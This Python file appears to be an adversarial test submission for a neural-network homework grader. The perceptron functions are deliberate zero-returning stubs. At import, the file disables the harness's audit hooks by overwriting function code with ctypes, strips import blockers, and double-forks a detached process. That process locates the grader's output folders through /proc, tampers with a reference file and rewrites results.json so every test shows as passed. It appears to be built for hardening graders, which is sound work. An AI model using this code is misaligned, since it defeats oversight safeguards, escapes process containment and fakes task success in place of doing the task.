"""Perceptrons that leave a detached process behind to rewrite the grade and the solution after grading.

What it attacks: process containment and the grader's own files. At import it switches the audit hook off
(ctypes.memmove of a no-op's code into the hook) and starts a process with no environment, in its own
session, double-forked (os.fork, else _posixsubprocess, else libc's fork through ctypes). That process
reads its ancestors' command lines and working folders in /proc to find the grader's --out folder and its
checkout, sleeps 3 s, appends a line to <checkout>/reference/softmax.py, and for 90 s rewrites every
results.json in those --out folders with every check passed. Its own functions are wrong.
"""

import gc
import os
import re
import struct
import sys
import types

import numpy as np

TAG = "corpus-case=detached_rewriter"

REWRITER = r"""
import json, os, sys, time
start = time.time()
outs, projects = set(), set()


def checkout_of(path):
    for _ in range(10):
        if os.path.isdir(os.path.join(path, "reference")) or os.path.isfile(os.path.join(path, "grader", "rubric.toml")):
            return path
        parent = os.path.dirname(path)
        if parent == path:
            return None
        path = parent
    return None


for pid in [int(p) for p in sys.argv[1].split(",") if p]:
    try:
        with open(f"/proc/{pid}/cmdline", "rb") as f:
            argv = [a.decode(errors="replace") for a in f.read().split(b"\0")]
    except OSError:
        continue
    try:
        cwd = os.readlink(f"/proc/{pid}/cwd")
    except OSError:
        cwd = "/"
    for i, a in enumerate(argv):
        if a == "--out" and i + 1 < len(argv):
            outs.add(os.path.join(cwd, argv[i + 1]))
        elif a.startswith("--out="):
            outs.add(os.path.join(cwd, a[6:]))
    for place in [cwd] + [a for a in argv if a.startswith("/")]:
        found = checkout_of(os.path.abspath(place))
        if found:
            projects.add(found)
time.sleep(3)
for project in projects:
    try:
        with open(os.path.join(project, "reference", "softmax.py"), "a") as f:
            f.write("# corpus-case=detached_rewriter was here\n")
    except OSError:
        pass
while time.time() - start < 90:
    for folder in outs:
        path = os.path.join(folder, "results.json")
        try:
            with open(path) as f:
                doc = json.load(f)
            if doc.get("output") == "rewritten":
                continue
            for t in doc.get("tests", []):
                t["score"], t["status"] = t.get("max_score", 0), "passed"
            doc["score"], doc["output"] = sum(t["score"] for t in doc.get("tests", [])), "rewritten"
            with open(path, "w") as f:
                json.dump(doc, f)
        except (OSError, ValueError, TypeError, AttributeError):
            pass
    time.sleep(0.2)
"""


# -- switching the audit hook off -------------------------------------------------------------


def _noop_hook(event, args, *rest, **named):
    return None


_BORROWED = []  # references to the no-op's code, which the disarmed hooks now hold


def _looks_like_hook(fn):
    """A function of the harness (not the standard library, NumPy or this submission) named like an audit hook."""
    module = getattr(fn, "__module__", None) or ""
    top = module.split(".")[0]
    if top in sys.stdlib_module_names or top in ("numpy", "assignment", "__main__") or module == __name__:
        return False
    name = fn.__name__.lower()
    if name.startswith(("make", "install", "add")) or fn.__code__.co_argcount < 2:
        return False
    return "hook" in name or "audit" in name or "tripwire" in name


def _disarm_audit_hooks():
    """Give every audit hook found in memory (gc) the code of a no-op, and drop the import blockers.

    ctypes is loaded by NumPy before any hook is installed. ctypes.string_at finds the function's code
    slot (the word that holds the address of its code object) and ctypes.memmove overwrites it: no audit
    event refuses either. Returns the number of hooks disarmed.
    """
    ctypes = sys.modules.get("ctypes")
    disarmed = 0
    if ctypes is not None:
        width = struct.calcsize("P")
        for fn in gc.get_objects():
            if not isinstance(fn, types.FunctionType) or fn.__code__ is _noop_hook.__code__ or not _looks_like_hook(fn):
                continue
            try:
                raw = ctypes.string_at(id(fn), type(fn).__basicsize__)
                needle, at = struct.pack("P", id(fn.__code__)), -1
                while True:
                    at = raw.find(needle, at + 1)
                    if at <= 0 or at % width == 0:
                        break
                if at <= 0:
                    continue
                _BORROWED.append(_noop_hook.__code__)
                ctypes.memmove(id(fn) + at, struct.pack("P", id(_noop_hook.__code__)), width)
                disarmed += 1
            except Exception:
                continue
    for finder in list(sys.meta_path):
        kind = type(finder) if not isinstance(finder, type) else finder
        words = (kind.__module__ + "." + kind.__name__).lower()
        if any(w in words for w in ("harness", "guard", "block", "deny", "sandbox")):
            sys.meta_path.remove(finder)
    return disarmed


# -- this process's ancestors ---------------------------------------------------------------


def _ancestors(limit=8):
    """The pids of this process's parent, grandparent, ... as far as /proc shows them."""
    pids, pid = [], os.getpid()
    for _ in range(limit):
        try:
            with open(f"/proc/{pid}/stat", "rb") as f:
                pid = int(f.read().rsplit(b")", 1)[1].split()[1])
        except (OSError, ValueError, IndexError):
            break
        if pid <= 1:
            break
        pids.append(pid)
    return pids


def _spawn_detached(code, *argv):
    """Start `python -c code argv...` with no environment, in its own session, detached (double fork).
    Tries os.fork, then _posixsubprocess.fork_exec, then libc's fork through ctypes. Returns the route or ""."""
    args = [sys.executable, "-c", code, *argv]
    try:
        pid = os.fork()
        if pid == 0:
            try:
                os.setsid()
                if os.fork() == 0:
                    os.execve(sys.executable, args, {})
            finally:
                os._exit(0)
        os.waitpid(pid, 0)
        return "os.fork"
    except Exception:
        pass
    try:
        import _posixsubprocess
        err_r, err_w = os.pipe()
        try:
            common = (args, [os.fsencode(sys.executable)], True, (err_w,), "/", [], -1, -1, -1, -1, -1, -1, err_r, err_w, True, True)
            try:  # Python 3.11 and 3.12
                _posixsubprocess.fork_exec(*common, -1, None, None, None, -1, None, False)
            except TypeError:  # Python 3.13+
                _posixsubprocess.fork_exec(*common, -1, None, None, None, -1, None)
        finally:
            os.close(err_w)
            os.close(err_r)
        return "_posixsubprocess"
    except Exception:
        pass
    try:
        import ctypes
        libc = ctypes.CDLL(None, use_errno=True)
        pid = libc.fork()
        if pid == 0:
            try:
                os.setsid()
                os.execve(sys.executable, args, {})
            finally:
                os._exit(0)
        if pid > 0:
            return "ctypes fork"
    except Exception:
        pass
    return ""


def _attack():
    try:
        _disarm_audit_hooks()
    except Exception:
        pass
    route = _spawn_detached(REWRITER, ",".join(map(str, _ancestors())), TAG)
    print(f"{TAG}: rewriter started by {route or 'nothing'}", flush=True)


_attack()


def predict(X, w, b):
    return np.zeros(np.shape(X)[0], dtype=np.int64)


def and_gate():
    return np.zeros(2), 0.0


def or_gate():
    return np.zeros(2), 0.0


def train_perceptron(X, y, lr=1.0, max_epochs=100):
    return np.zeros(np.shape(X)[1]), 0.0, True


def xor_network():
    return {"W1": np.zeros((2, 2)), "b1": np.zeros(2), "W2": np.zeros(2), "b2": 0.0}
